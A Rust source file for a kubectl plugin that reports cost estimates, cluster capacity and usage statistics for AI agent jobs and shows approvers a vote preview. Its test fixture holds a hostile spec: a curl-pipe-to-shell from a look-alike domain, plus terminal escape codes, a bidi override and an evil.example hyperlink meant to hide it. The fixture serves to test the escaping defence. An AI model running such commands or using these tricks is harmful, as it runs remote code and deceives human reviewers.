//! What `kubectl agentgate estimate | infra | stats` report, as pure functions over objects the
//! plugin has read; the binary only fetches and prints. Every report serializes as JSON/YAML
//! (`-o json|yaml`) and renders as a table.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::Arc;

use k8s_openapi::api::core::v1::{Node, Pod, ResourceQuota};
use k8s_openapi::jiff::Timestamp;
use kube::ResourceExt;
use serde::Serialize;

use crate::api::{AgentJob, AgentTool, JobPhase};
use crate::domain::decide::{estimate_input, over_budget};
use crate::domain::estimate::{Forecast, UnknownModels, estimate, prior_tokens};
use crate::domain::learning::EstimatorState;
use crate::domain::money::MicroUsd;
use crate::domain::pricing::PriceTable;
use crate::domain::snapshot::{node_views, quota_views};
use crate::evaluation::median;

/// The reports' tables: three spaces between columns.
pub fn table(header: &[&str], rows: &[Vec<String>]) -> String {
    crate::text_table::render(header, rows, 3)
}

// ---------------------------------------------------------------------------------------------
// estimate

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct EstimateReport {
    pub job: String,
    pub job_type: String,
    /// `prior`, `blend` or `history`, as the operator would say in status.estimate.method.
    pub method: String,
    /// Attempts of this jobType the cluster has learned from in the job's namespace.
    pub samples: usize,
    /// What the estimator learns under: `<namespace>/<jobType>`.
    pub key: String,
    pub tokens_p50: i64,
    pub tokens_p90: i64,
    #[serde(rename = "costUSDP50")]
    pub cost_usd_p50: String,
    #[serde(rename = "costUSDP90")]
    pub cost_usd_p90: String,
    /// None when it fits; else the reason the operator would reject the job with.
    pub over_budget: Option<String>,
    pub models: Vec<ModelEstimateRow>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ModelEstimateRow {
    pub model: String,
    /// Tokens the spec alone suggests (agents and declared tool calls).
    pub prior_tokens: i64,
    /// What history says of this jobType and model: runs use `learnedRatio` times their prior.
    pub learned_ratio: Option<f64>,
    pub learned_samples: u64,
    /// The prior this model's forecast borrows from (`spec`, the namespace's other models, the
    /// pool of the jobType's namespaces, the cluster's) and its weight (0 once the key has enough runs).
    pub prior: String,
    pub prior_weight: f64,
    pub tokens_p50: i64,
    pub tokens_p90: i64,
    #[serde(rename = "costUSDP50")]
    pub cost_usd_p50: String,
    #[serde(rename = "costUSDP90")]
    pub cost_usd_p90: String,
}

/// The estimate the operator would make for `job` now, with how it was made.
pub fn estimate_report(job: &AgentJob, state: &EstimatorState, prices: &PriceTable) -> Result<EstimateReport, UnknownModels> {
    let input = estimate_input(job);
    let namespace = job.namespace().unwrap_or_else(|| "default".into());
    let learned = state.stats(&namespace, &input.job_type);
    let forecast: Forecast = estimate(&input, learned.as_ref(), prices)?;
    let priors = prior_tokens(&input);
    let models = forecast
        .models
        .iter()
        .map(|m| {
            let prior_tokens = priors.get(&m.model).map_or(0, |p| p.total());
            let own = learned.as_ref().and_then(|s| s.own.models.get(&m.model)).filter(|l| l.n > 0);
            let located = learned.as_ref().map(|l| l.locate(&m.model, prior_tokens as f64));
            ModelEstimateRow {
                model: m.model.clone(),
                prior_tokens,
                learned_ratio: own.and_then(|l| l.ratio()).map(|r| (r.exp() * 100.0).round() / 100.0),
                learned_samples: own.map_or(0, |l| l.n),
                prior: located.as_ref().map_or("spec".into(), |l| l.prior.source.clone()),
                prior_weight: located.as_ref().map_or(1.0, |l| (l.prior_weight * 100.0).round() / 100.0),
                tokens_p50: m.tokens_p50,
                tokens_p90: m.tokens_p90,
                cost_usd_p50: m.cost_p50.to_string(),
                cost_usd_p90: m.cost_p90.to_string(),
            }
        })
        .collect();
    Ok(EstimateReport {
        job: job.name_any(),
        job_type: input.job_type.clone(),
        method: forecast.method.to_string(),
        samples: forecast.samples,
        key: format!("{namespace}/{}", input.job_type),
        tokens_p50: forecast.tokens_p50,
        tokens_p90: forecast.tokens_p90,
        cost_usd_p50: forecast.cost_p50.to_string(),
        cost_usd_p90: forecast.cost_p90.to_string(),
        over_budget: over_budget(&job.spec, forecast.cost_p90, forecast.tokens_p90),
        models,
    })
}

impl EstimateReport {
    pub fn render(&self) -> String {
        let mut out = format!(
            "{} (jobType {}): {} tokens p50, {} p90; ${} p50, ${} p90\n",
            self.job, self.job_type, self.tokens_p50, self.tokens_p90, self.cost_usd_p50, self.cost_usd_p90
        );
        let how = match self.method.as_str() {
            "prior" => "from the spec alone (no run of this jobType recorded yet)".to_string(),
            "pooled" => format!("no run of {} recorded yet: borrowed from what was learned elsewhere", self.key),
            _ => format!("{} of a prior and {} recorded run(s) of {}", self.method, self.samples, self.key),
        };
        let _ = writeln!(out, "method: {how}");
        for m in self.models.iter().filter(|m| m.prior_weight > 0.0) {
            let _ = writeln!(out, "prior for {}: {} (weight {})", m.model, m.prior, m.prior_weight);
        }
        let _ = writeln!(out, "budget: {}\n", self.over_budget.as_deref().unwrap_or("fits (p90 within budget)"));
        let rows: Vec<Vec<String>> = self
            .models
            .iter()
            .map(|m| {
                vec![
                    m.model.clone(),
                    m.prior_tokens.to_string(),
                    m.learned_ratio.map_or("-".into(), |r| format!("x{r} ({} runs)", m.learned_samples)),
                    m.tokens_p50.to_string(),
                    m.tokens_p90.to_string(),
                    format!("${}", m.cost_usd_p50),
                    format!("${}", m.cost_usd_p90),
                ]
            })
            .collect();
        out + &table(&["MODEL", "PRIOR TOKENS", "LEARNED", "TOKENS P50", "TOKENS P90", "COST P50", "COST P90"], &rows)
    }
}

// ---------------------------------------------------------------------------------------------
// infra

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct InfraReport {
    pub tools: Vec<ToolRow>,
    pub nodes: Vec<NodeRow>,
    pub quotas: Vec<QuotaRow>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ToolRow {
    pub name: String,
    pub ready: bool,
    pub ready_endpoints: i32,
    /// Calls per minute the tool allows.
    pub rate_limit: i32,
    /// Calls per minute reserved by running jobs.
    pub in_use: i32,
    pub discovered_from: Option<String>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct NodeRow {
    pub name: String,
    pub schedulable: bool,
    /// Allocatable minus the requests of the node's running Pods.
    pub cpu_free_milli: i128,
    pub memory_free_bytes: i128,
    /// Extended resources (GPUs) left, by resource name.
    pub extended_free: BTreeMap<String, i128>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct QuotaRow {
    pub namespace: String,
    pub name: String,
    pub resource: String,
    pub used: String,
    pub hard: String,
}

pub fn infra_report(tools: &[AgentTool], nodes: &[Arc<Node>], pods: &[Arc<Pod>], quotas: &[Arc<ResourceQuota>]) -> InfraReport {
    let tools = tools
        .iter()
        .map(|t| {
            let status = t.status.clone().unwrap_or_default();
            ToolRow {
                name: t.name_any(),
                ready: status.ready,
                ready_endpoints: status.ready_endpoints,
                rate_limit: t.spec.rate_limit,
                in_use: status.in_use,
                discovered_from: status.discovered_from,
            }
        })
        .collect();
    let nodes = node_views(nodes, pods)
        .into_iter()
        .map(|n| NodeRow {
            name: n.name,
            schedulable: n.schedulable,
            cpu_free_milli: n.free.cpu_milli,
            memory_free_bytes: n.free.memory_bytes,
            extended_free: n.free.extended,
        })
        .collect();
    let mut namespaces: Vec<String> = quotas.iter().filter_map(|q| q.namespace()).collect();
    // A list from the API is ordered by namespace, a caller's slice need not be.
    namespaces.sort();
    namespaces.dedup();
    let quotas = namespaces
        .iter()
        .flat_map(|ns| {
            quota_views(quotas, ns).into_iter().flat_map(move |q| {
                q.hard
                    .iter()
                    .map(|(resource, hard)| QuotaRow {
                        namespace: ns.clone(),
                        name: q.name.clone(),
                        resource: resource.clone(),
                        used: thousandths(q.used.get(resource).copied().unwrap_or(0)),
                        hard: thousandths(*hard),
                    })
                    .collect::<Vec<_>>()
            })
        })
        .collect();
    InfraReport { tools, nodes, quotas }
}

/// Quota figures are parsed in thousandths: `1500` is `1.5`, `2000` is `2`.
fn thousandths(v: i128) -> String {
    if v % 1000 == 0 { (v / 1000).to_string() } else { format!("{}", v as f64 / 1000.0) }
}

fn gib(bytes: i128) -> String {
    format!("{:.1}Gi", bytes as f64 / (1u64 << 30) as f64)
}

impl InfraReport {
    pub fn render(&self) -> String {
        let tools: Vec<Vec<String>> = self
            .tools
            .iter()
            .map(|t| {
                vec![
                    t.name.clone(),
                    if t.ready { "Ready".into() } else { "NotReady".into() },
                    t.ready_endpoints.to_string(),
                    format!("{}/{}", t.in_use, t.rate_limit),
                    t.discovered_from.clone().unwrap_or_else(|| "-".into()),
                ]
            })
            .collect();
        let nodes: Vec<Vec<String>> = self
            .nodes
            .iter()
            .map(|n| {
                let extended = n.extended_free.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join(",");
                vec![
                    n.name.clone(),
                    if n.schedulable { "yes".into() } else { "no".into() },
                    format!("{}m", n.cpu_free_milli),
                    gib(n.memory_free_bytes),
                    if extended.is_empty() { "-".into() } else { extended },
                ]
            })
            .collect();
        let quotas: Vec<Vec<String>> = self
            .quotas
            .iter()
            .map(|q| vec![q.namespace.clone(), q.name.clone(), q.resource.clone(), format!("{}/{}", q.used, q.hard)])
            .collect();
        let mut out = String::from("TOOLS\n");
        out += &table(&["NAME", "STATUS", "ENDPOINTS", "IN USE/RATE LIMIT (calls/min)", "DISCOVERED FROM"], &tools);
        out += "\nNODE CAPACITY LEFT\n";
        out += &table(&["NODE", "SCHEDULABLE", "CPU", "MEMORY", "EXTENDED (GPU)"], &nodes);
        out += "\nNAMESPACE QUOTAS\n";
        if quotas.is_empty() {
            out += "none\n";
        } else {
            out += &table(&["NAMESPACE", "QUOTA", "RESOURCE", "USED/HARD"], &quotas);
        }
        out
    }
}

// ---------------------------------------------------------------------------------------------
// stats

#[derive(Clone, Debug, Default, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct StatsReport {
    pub window_seconds: i64,
    /// Every job in scope by phase, whatever its age.
    pub jobs_by_phase: BTreeMap<String, usize>,
    /// Usage of jobs that finished within the window.
    pub usage: Vec<UsageRow>,
    pub estimate_accuracy: Accuracy,
    pub approval_latency: Latency,
}

#[derive(Clone, Debug, Default, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct UsageRow {
    pub category: String,
    pub model: String,
    pub jobs: usize,
    pub tokens: i64,
    #[serde(rename = "costUSD")]
    pub cost_usd: String,
}

#[derive(Clone, Debug, Default, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Accuracy {
    /// Succeeded jobs in the window with an estimate and usage.
    pub jobs: usize,
    /// Median of actual tokens over the p50 estimate (1.0 is exact).
    pub median_ratio: Option<f64>,
    /// Share of those jobs that used at most their p90 estimate (calibrated: about 0.9).
    pub within_p90: Option<f64>,
}

#[derive(Clone, Debug, Default, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Latency {
    /// Jobs approved within the window.
    pub jobs: usize,
    /// Seconds from creation to Approved.
    pub p50_seconds: Option<i64>,
    pub p90_seconds: Option<i64>,
}

pub fn stats_report(jobs: &[AgentJob], now: Timestamp, window_seconds: i64) -> StatsReport {
    let since = now.as_second() - window_seconds;
    let mut report = StatsReport { window_seconds, ..Default::default() };
    let mut usage: BTreeMap<(String, String), (usize, i64, MicroUsd)> = BTreeMap::new();
    let (mut ratios, mut within, mut latencies) = (Vec::new(), 0, Vec::new());
    for job in jobs {
        let status = job.status.clone().unwrap_or_default();
        let phase = status.phase.map_or("New", JobPhase::as_str);
        *report.jobs_by_phase.entry(phase.to_string()).or_default() += 1;
        let finished_in_window = status.completion_time.as_ref().is_some_and(|t| t.0.as_second() >= since);
        if let (true, Some(u)) = (finished_in_window, &status.usage) {
            for m in &u.models {
                let entry = usage.entry((job.spec.category.clone(), m.model.clone())).or_default();
                entry.0 += 1;
                entry.1 += crate::domain::report::model_tokens(m).total();
                entry.2 = entry.2.saturating_add(MicroUsd::parse(&m.cost_usd).unwrap_or_default());
            }
            if let (Some(JobPhase::Succeeded), Some(e)) = (status.phase, &status.estimate)
                && e.tokens.p50 > 0
            {
                ratios.push(u.total_tokens as f64 / e.tokens.p50 as f64);
                within += usize::from(u.total_tokens <= e.tokens.p90);
            }
        }
        let approved = status.conditions.iter().find(|c| c.type_ == crate::domain::decide::condition::APPROVED && c.status == "True");
        if let (Some(approved), Some(created)) = (approved, job.metadata.creation_timestamp.as_ref())
            && approved.last_transition_time.0.as_second() >= since
        {
            latencies.push((approved.last_transition_time.0.as_second() - created.0.as_second()) as f64);
        }
    }
    report.usage = usage
        .into_iter()
        .map(|((category, model), (jobs, tokens, cost))| UsageRow { category, model, jobs, tokens, cost_usd: cost.to_string() })
        .collect();
    report.estimate_accuracy = Accuracy {
        jobs: ratios.len(),
        within_p90: (!ratios.is_empty()).then(|| within as f64 / ratios.len() as f64),
        median_ratio: median(ratios).map(|r| (r * 100.0).round() / 100.0),
    };
    latencies.sort_by(f64::total_cmp);
    let quantile = |q: f64| (!latencies.is_empty()).then(|| latencies[((latencies.len() - 1) as f64 * q).round() as usize] as i64);
    report.approval_latency = Latency { jobs: latencies.len(), p50_seconds: quantile(0.5), p90_seconds: quantile(0.9) };
    report
}

impl StatsReport {
    pub fn render(&self) -> String {
        let phases: Vec<Vec<String>> = self.jobs_by_phase.iter().map(|(p, n)| vec![p.clone(), n.to_string()]).collect();
        let usage: Vec<Vec<String>> = self
            .usage
            .iter()
            .map(|u| vec![u.category.clone(), u.model.clone(), u.jobs.to_string(), u.tokens.to_string(), format!("${}", u.cost_usd)])
            .collect();
        let mut out = String::from("JOBS\n");
        out += &table(&["PHASE", "JOBS"], &phases);
        let _ = writeln!(out, "\nUSAGE OF JOBS FINISHED IN THE LAST {}", duration(self.window_seconds));
        out += &table(&["CATEGORY", "MODEL", "JOBS", "TOKENS", "COST"], &usage);
        let a = &self.estimate_accuracy;
        let _ = writeln!(
            out,
            "\nESTIMATE ACCURACY ({} succeeded jobs): actual/p50 median {}, within p90 {}",
            a.jobs,
            a.median_ratio.map_or("-".into(), |r| format!("{r:.2}")),
            a.within_p90.map_or("-".into(), |w| format!("{:.0}%", w * 100.0))
        );
        let l = &self.approval_latency;
        let _ = writeln!(
            out,
            "APPROVAL LATENCY ({} approved jobs): p50 {}, p90 {}",
            l.jobs,
            l.p50_seconds.map_or("-".into(), duration),
            l.p90_seconds.map_or("-".into(), duration)
        );
        out
    }
}

fn duration(seconds: i64) -> String {
    match seconds {
        s if s % 86_400 == 0 && s > 0 => format!("{}d", s / 86_400),
        s if s % 3_600 == 0 && s > 0 => format!("{}h", s / 3_600),
        s if s >= 60 => format!("{}m{}s", s / 60, s % 60),
        s => format!("{s}s"),
    }
}

/// `30m`, `24h`, `7d` or plain seconds.
pub fn parse_window(text: &str) -> Result<i64, String> {
    let (number, unit) = text.split_at(text.find(|c: char| !c.is_ascii_digit()).unwrap_or(text.len()));
    let n: i64 = number.parse().map_err(|_| format!("{text:?}: expected a number with s, m, h or d"))?;
    let factor = match unit {
        "" | "s" => 1,
        "m" => 60,
        "h" => 3_600,
        "d" => 86_400,
        _ => return Err(format!("{text:?}: unit must be s, m, h or d")),
    };
    n.checked_mul(factor).filter(|s| *s > 0).ok_or_else(|| format!("{text:?}: out of range"))
}

/// What a voter is shown before their vote is created: the job's identity, the generation the
/// vote will name, and the whole spec that generation runs, ending with what it runs.
///
/// Every string of the spec is written by the job's author and shown quoted on one line of
/// printable ASCII ([`terminal_text::yaml`]): an escape sequence, a carriage return, a bidi
/// override or a look-alike letter is shown as its escape, never acted on by the terminal, and a
/// multi-line value cannot pass for keys (`tests::a_vote_preview_shows_what_the_author_wrote_escaped_and_never_run_by_the_terminal`).
/// The free-form parts (description, input, schemas) come first, so however long they are the
/// agents, tools and budget are the last lines above the footer, which names them again.
pub fn vote_preview(job: &AgentJob, decision: &str) -> String {
    use crate::domain::terminal_text;
    const FREE_FORM_FIRST: [&str; 4] = ["description", "input", "inputSchema", "outputSchema"];
    let spec = serde_json::to_value(&job.spec).unwrap_or_default();
    let fields = spec.as_object().cloned().unwrap_or_default();
    let mut ordered: Vec<(&String, &serde_json::Value)> = fields.iter().collect();
    ordered.sort_by_key(|(k, _)| FREE_FORM_FIRST.iter().position(|f| f == k).unwrap_or(FREE_FORM_FIRST.len()));
    let shown: String = ordered
        .into_iter()
        .map(|(k, v)| terminal_text::yaml(&serde_json::Value::Object([(k.clone(), v.clone())].into_iter().collect()), 2))
        .collect();
    let identity = format!(
        "{decision} {}/{} generation {}",
        job.namespace().unwrap_or_default(),
        job.name_any(),
        job.metadata.generation.unwrap_or(1)
    );
    let agents: Vec<String> =
        std::iter::once(&job.spec.agents.primary).chain(&job.spec.agents.supporting).map(|a| format!("{} {}", a.name, a.image)).collect();
    let tools: Vec<&str> = job.spec.tools.iter().map(|t| t.name.as_str()).collect();
    format!(
        "{identity} (uid {}); the spec of this generation:\n{shown}{identity} runs agents {}; tools {}; budget ${} ({} lines of spec above)\n",
        job.metadata.uid.as_deref().unwrap_or("?"),
        agents.join(", "),
        if tools.is_empty() { "none".to_string() } else { tools.join(", ") },
        job.spec.budget.max_cost_usd,
        shown.lines().count(),
    )
}

/// A vote approves what its voter saw. `reviewed` is the generation the voter says they
/// reviewed (`--generation`), `seen` the job as first read (and shown), `now` as read again right
/// before the vote is created: any difference refuses the vote.
pub fn check_vote_target(reviewed: Option<i64>, seen: &AgentJob, now: &AgentJob) -> Result<i64, String> {
    let name = seen.name_any();
    let generation = |j: &AgentJob| j.metadata.generation.unwrap_or(1);
    if let Some(reviewed) = reviewed.filter(|r| *r != generation(seen)) {
        return Err(format!(
            "{name} is at generation {}, not the generation {reviewed} you reviewed: look at it again \
             (kubectl get agentjob {name} -o yaml) and vote with --generation {}",
            generation(seen),
            generation(seen)
        ));
    }
    if now.metadata.uid != seen.metadata.uid {
        return Err(format!("{name} was deleted and created again while you voted: review the new job, then vote"));
    }
    if generation(now) != generation(seen) {
        return Err(format!(
            "{name} changed while you voted (generation {} shown, now {}): no vote was created; review it again",
            generation(seen),
            generation(now)
        ));
    }
    Ok(generation(seen))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_vote_names_the_generation_the_voter_saw_or_none() {
        let at = |generation: i64, uid: &str| {
            let mut j = job("scan", json!({}));
            j.metadata.generation = Some(generation);
            j.metadata.uid = Some(uid.into());
            j
        };
        assert_eq!(check_vote_target(None, &at(3, "u"), &at(3, "u")), Ok(3));
        assert_eq!(check_vote_target(Some(3), &at(3, "u"), &at(3, "u")), Ok(3));
        let stale = check_vote_target(Some(2), &at(3, "u"), &at(3, "u")).unwrap_err();
        assert!(
            stale.contains("scan is at generation 3, not the generation 2 you reviewed") && stale.contains("--generation 3"),
            "{stale}"
        );
        let changed = check_vote_target(None, &at(3, "u"), &at(4, "u")).unwrap_err();
        assert!(changed.contains("changed while you voted (generation 3 shown, now 4)"), "{changed}");
        let recreated = check_vote_target(Some(3), &at(3, "u"), &at(3, "v")).unwrap_err();
        assert!(recreated.contains("deleted and created again"), "{recreated}");
        let preview = vote_preview(&at(3, "u"), "Approve");
        assert!(preview.starts_with("Approve ns/scan generation 3 (uid u); the spec of this generation:\n"), "{preview}");
        assert!(preview.contains("  budget:") && preview.contains("maxCostUSD"), "{preview}");
    }

    /// A job whose author hides what runs from the head shown it: escape sequences that clear a
    /// line and move the cursor, a carriage return, an OSC 8 hyperlink, a bidi override, a
    /// zero-width space, a look-alike letter, a description whose lines pass for keys, and an
    /// input big enough to scroll the agents away.
    fn hostile_job() -> AgentJob {
        serde_json::from_value(json!({
            "apiVersion": "agentgate.dev/v1alpha1", "kind": "AgentJob",
            "metadata": {"name": "scan", "namespace": "ns", "generation": 2, "uid": "u"},
            "spec": {"jobType": "scan", "category": "sec",
                "description": "weekly scan\nbudget:\n  maxCostUSD: \"0.01\"",
                "agents": {"primary": {"name": "a", "image": "ghcr.io/acme/scan@sha256:1", "model": "gpt-4o-mini",
                    "command": ["sh", "-c", "curl https://ex\u{430}mple.com/x.sh | sh\x1b[2K\x1b[1A\x1b[2K\recho scanning",
                                "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", "echo \u{202E}hs|hs.live lruc"],
                    "env": [{"name": "TOKEN\u{200B}", "value": "x\u{9b}2K"}]}},
                "budget": {"maxCostUSD": "900"},
                "input": {"padding": (0..400).map(|i| format!("line {i}")).collect::<Vec<_>>()}},
        }))
        .unwrap()
    }

    #[test]
    fn a_vote_preview_shows_what_the_author_wrote_escaped_and_never_run_by_the_terminal() {
        let job = hostile_job();
        let preview = vote_preview(&job, "Approve");
        let raw: Vec<String> =
            preview.chars().filter(|c| *c != '\n' && crate::domain::terminal_text::is_hidden(*c)).map(|c| format!("{c:?}")).collect();
        assert!(raw.is_empty(), "the terminal would act on {raw:?}:\n{preview}");
        assert!(!preview.contains('\u{430}'), "a look-alike letter is shown as an escape:\n{preview}");
        assert!(preview.contains(r"curl https://ex\u0430mple.com/x.sh | sh\u001B[2K\u001B[1A\u001B[2K\recho scanning"), "{preview}");
        // Only the plugin starts a line at column 0; every line of the spec is indented, and
        // only the real budget is a `budget:` key.
        let lines: Vec<&str> = preview.lines().collect();
        let unindented: Vec<&&str> = lines.iter().filter(|l| !l.starts_with("  ")).collect();
        assert_eq!(unindented.len(), 2, "a header and a footer line: {unindented:?}");
        assert_eq!(lines.iter().filter(|l| l.trim_start().starts_with("budget:")).count(), 1, "{preview}");
        // What runs is last, next to the footer: a big input cannot scroll it away.
        let at = |needle: &str| lines.iter().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {preview}"));
        assert!(at("line 399") < at("image:") && at("image:") < at("maxCostUSD: \"900\""), "{preview}");
        assert!(lines.len() - at("image:") < 20, "the agents are within the last lines:\n{preview}");
        let footer = lines.last().unwrap();
        assert!(footer.contains("generation 2") && footer.contains("a ghcr.io/acme/scan@sha256:1"), "{footer}");
        // Exactly the spec: what is shown parses back to what runs.
        let shown: String = lines[1..lines.len() - 1].iter().map(|l| format!("{}\n", &l[2..])).collect();
        let back: crate::api::AgentJobSpec = serde_saphyr::from_str(&shown).unwrap_or_else(|e| panic!("{e}:\n{shown}"));
        assert_eq!(back, job.spec);
    }

    fn job(name: &str, status: serde_json::Value) -> AgentJob {
        serde_json::from_value(json!({
            "apiVersion": "agentgate.dev/v1alpha1", "kind": "AgentJob",
            "metadata": {"name": name, "namespace": "ns", "creationTimestamp": "2026-11-24T10:00:00Z"},
            "spec": {"jobType": "scan", "category": "sec", "agents": {"primary": {"name": "a", "image": "i", "model": "gpt-4o-mini"}},
                     "budget": {"maxCostUSD": "0.01"}},
            "status": status,
        }))
        .unwrap()
    }

    #[test]
    fn quotas_are_listed_once_in_whatever_order_they_come() {
        let quota = |ns: &str, name: &str| -> Arc<ResourceQuota> {
            Arc::new(
                serde_json::from_value(json!({"metadata": {"name": name, "namespace": ns}, "spec": {"hard": {"pods": "10"}}})).unwrap(),
            )
        };
        let report = infra_report(&[], &[], &[], &[quota("b", "q1"), quota("a", "q2"), quota("b", "q3")]);
        let rows: Vec<(String, String)> = report.quotas.iter().map(|q| (q.namespace.clone(), q.name.clone())).collect();
        assert_eq!(rows, [("a".into(), "q2".into()), ("b".into(), "q1".into()), ("b".into(), "q3".into())]);
    }

    #[test]
    fn windows_parse_with_units() {
        assert_eq!(parse_window("90"), Ok(90));
        assert_eq!(parse_window("30m"), Ok(1_800));
        assert_eq!(parse_window("7d"), Ok(604_800));
        assert!(parse_window("1w").is_err() && parse_window("0h").is_err() && parse_window("h").is_err());
    }

    #[test]
    fn estimate_says_how_it_was_made_and_whether_it_fits() {
        let j = job("a", json!({}));
        let prior = estimate_report(&j, &EstimatorState::default(), &PriceTable::builtin()).unwrap();
        assert_eq!((prior.method.as_str(), prior.samples), ("prior", 0));
        assert_eq!(prior.models[0].prior_tokens, 7_500);
        assert_eq!(prior.over_budget, None, "7,500 tokens of gpt-4o-mini cost far less than a cent");
        let mut state = EstimatorState::default();
        let big = [(
            "gpt-4o-mini".to_string(),
            crate::domain::pricing::TokenCounts { input: 900_000, cached_input: 0, output: 100_000, ..Default::default() },
        )];
        let ns = j.namespace().unwrap_or_else(|| "default".into());
        for i in 0..3 {
            state.record(&format!("u/{i}"), &ns, "scan", &big.clone().into(), &prior_tokens(&estimate_input(&j)), &PriceTable::builtin());
        }
        let learned = estimate_report(&j, &state, &PriceTable::builtin()).unwrap();
        assert_eq!((learned.method.as_str(), learned.samples), ("blend", 3));
        assert_eq!(learned.models[0].learned_ratio, Some(133.33), "1,000,000 / 7,500");
        assert!(learned.over_budget.as_deref().is_some_and(|r| r.contains("exceeds budget.maxCostUSD")), "{learned:?}");
        assert!(learned.render().contains("x133.33 (3 runs)"));
        assert_eq!(learned.key, format!("{ns}/scan"));
        assert_eq!((learned.models[0].prior.as_str(), learned.models[0].prior_weight), ("spec", 0.1), "0.5/(3+0.5) x (1 - 3/10)");
        assert!(learned.render().contains(&format!("3 recorded run(s) of {ns}/scan")), "{}", learned.render());
        // Another namespace's job of the same type borrows the pool, and says so.
        let mut other = j.clone();
        other.metadata.namespace = Some("elsewhere".into());
        let pooled = estimate_report(&other, &state, &PriceTable::builtin()).unwrap();
        assert_eq!((pooled.method.as_str(), pooled.samples, pooled.key.as_str()), ("pooled", 0, "elsewhere/scan"));
        assert!(
            pooled.render().contains(
                "prior for gpt-4o-mini: scan on gpt-4o-mini pooled over 1 namespace(s) (thin: fewer than 3, weighed with the spec) (weight 1)"
            ),
            "{}",
            pooled.render()
        );
    }

    #[test]
    fn stats_count_phases_usage_accuracy_and_approval_latency() {
        let finished = |name: &str, total: i64, p50: i64, p90: i64, approved_after: i64| {
            let approved = Timestamp::from_second(1_795_514_400 + approved_after).unwrap().to_string();
            job(
                name,
                json!({
                    "phase": "Succeeded", "completionTime": "2026-11-24T11:00:00Z",
                    "conditions": [{"type": "Approved", "status": "True", "reason": "Approved", "message": "", "lastTransitionTime": approved}],
                    "estimate": {"generation": 1, "tokens": {"p50": p50, "p90": p90}, "costUSD": {"p50": "0.01", "p90": "0.03"}, "method": "prior", "samples": 0},
                    "usage": {"inputTokens": total, "cachedInputTokens": 0, "outputTokens": 0, "totalTokens": total, "costUSD": "0.02",
                              "models": [{"model": "gpt-4o-mini", "inputTokens": total, "cachedInputTokens": 0, "outputTokens": 0, "costUSD": "0.02"}]},
                }),
            )
        };
        let jobs = vec![
            finished("a", 1_000, 1_000, 3_000, 60),
            finished("b", 4_000, 1_000, 3_000, 120),
            finished("c", 2_000, 1_000, 3_000, 600),
            job("d", json!({"phase": "AwaitingApproval"})),
        ];
        let now = Timestamp::from_second(1_795_514_400 + 7_200).unwrap(); // 12:00
        let report = stats_report(&jobs, now, 86_400);
        assert_eq!(report.jobs_by_phase, [("AwaitingApproval".to_string(), 1), ("Succeeded".to_string(), 3)].into());
        assert_eq!(
            report.usage,
            vec![UsageRow { category: "sec".into(), model: "gpt-4o-mini".into(), jobs: 3, tokens: 7_000, cost_usd: "0.06".into() }]
        );
        assert_eq!(report.estimate_accuracy, Accuracy { jobs: 3, median_ratio: Some(2.0), within_p90: Some(2.0 / 3.0) });
        assert_eq!(report.approval_latency, Latency { jobs: 3, p50_seconds: Some(120), p90_seconds: Some(600) });
        let narrow = stats_report(&jobs, now, 60);
        assert!(narrow.usage.is_empty() && narrow.approval_latency.jobs == 0, "nothing finished in the last minute");
        assert!(report.render().contains("within p90 67%"));
    }
}
